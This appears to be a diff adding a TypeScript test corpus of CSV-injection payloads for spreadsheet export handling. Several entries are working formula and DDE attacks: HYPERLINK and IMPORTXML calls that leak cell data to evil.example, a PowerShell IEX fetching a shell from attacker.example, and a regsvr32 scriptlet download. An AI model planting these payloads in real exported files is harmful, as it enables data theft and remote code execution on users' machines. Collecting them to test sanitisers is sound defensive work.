@@ -1,0 +1,40 @@
+// CSV-injection payloads: OWASP's list, DDE calls, payloads hidden behind whitespace and invisible
+// characters, and the full-width signs some spreadsheets read as their ASCII twins.
+
+/** Every one of these starts a formula, a DDE call or a hidden one in some spreadsheet. */
+export const INJECTION_CORPUS: readonly string[] = [
+  '=1+1',
+  '=SUM(A1:A9)',
+  '=HYPERLINK("http://evil.example/?leak="&A1&B1,"Click for your refund")',
+  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
+  "=cmd|' /C calc'!A0",
+  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
+  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll'!''",
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  '@SUM(1+1)',
+  "+cmd|' /C calc'!A0",
+  '+1+1',
+  "-2+3+cmd|' /C calc'!A0",
+  '-1+1',
+  '\t=1+1',
+  '\tplain text after a tab',
+  '\r=1+1',
+  '\rline',
+  ' =1+1',
+  '   @SUM(1)',
+  '\n=1+1',
+  '\u00A0=1+1',
+  '\u3000+1',
+  '\u200B=1+1',
+  '\uFEFF=1+1',
+  '\u202E=1+1',
+  '\uFF1D1+1',
+  '\uFF0Bcmd',
+  '\uFF0D1',
+  '\uFF20SUM(1)',
+  ' \t \uFF1DHYPERLINK("x")',
+  '=',
+  '-',
+  '+',
+  '@'
+]
